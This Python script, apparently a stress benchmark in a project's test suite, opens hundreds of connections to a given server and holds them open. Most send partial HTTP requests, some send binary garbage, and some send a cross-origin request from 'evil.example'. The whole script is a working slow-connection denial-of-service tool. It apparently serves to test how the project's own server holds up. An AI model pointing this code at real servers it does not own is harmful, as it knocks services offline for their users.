"""`python -m tests.benchmarks.page_attack ADDRESS COUNT`: opens so many connections that never finish a request.

Every tenth sends garbage, every tenth a request from a foreign page; all others the beginning of a request. They are
kept open as long as the page lets them.
"""

from __future__ import annotations

import selectors
import socket
import sys
import time
from contextlib import suppress
from typing import Final
from urllib.parse import urlsplit

AT_ONCE: Final = 500
PATIENCE_S: Final = 60.0


def main() -> None:
    """Attacks, and says how many connections it made."""
    parts = urlsplit(sys.argv[1])
    host, port, count = str(parts.hostname), int(parts.port or 80), int(sys.argv[2])
    requests = [b"GET / HTTP/1.1\r\nHost: "] * 8
    requests += [b"\x00\xff" * 200, b"GET /live HTTP/1.1\r\nHost: evil.example\r\nOrigin: http://evil.example\r\n\r\n"]
    selector = selectors.DefaultSelector()
    made, opened, end_s = 0, 0, time.monotonic() + PATIENCE_S
    while (made < count or selector.get_map()) and time.monotonic() < end_s:
        while made < count and len(selector.get_map()) < AT_ONCE:
            link = socket.socket()
            link.setblocking(False)
            link.connect_ex((host, port))
            selector.register(link, selectors.EVENT_WRITE, requests[made % len(requests)])
            made += 1
        for key, _ in selector.select(0.1):
            link = key.fileobj  # type: ignore[assignment]
            selector.unregister(link)
            with suppress(OSError):
                if key.data:
                    link.send(key.data)
                    opened += 1
                    selector.register(link, selectors.EVENT_READ, b"")
                    continue
                if link.recv(65536):
                    selector.register(link, selectors.EVENT_READ, b"")
                    continue
            link.close()
    print(f"{opened} of {made} connections made")


if __name__ == "__main__":
    main()
